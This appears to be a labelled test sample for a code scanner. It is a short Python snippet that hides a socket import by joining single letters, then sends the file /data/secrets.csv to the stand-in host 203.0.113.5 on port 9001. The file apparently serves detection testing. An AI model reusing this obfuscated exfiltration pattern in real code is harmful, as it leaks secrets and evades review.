# attack-class: 2
# title: __import__ of a name joined from single letters
# why: the module name only exists after join() at run time

parts = ["s", "o", "c", "k", "e", "t"]
sock_mod = __import__("".join(parts))
c = sock_mod.create_connection(("203.0.113.5", 9001))
c.sendall(open("/data/secrets.csv", "rb").read())
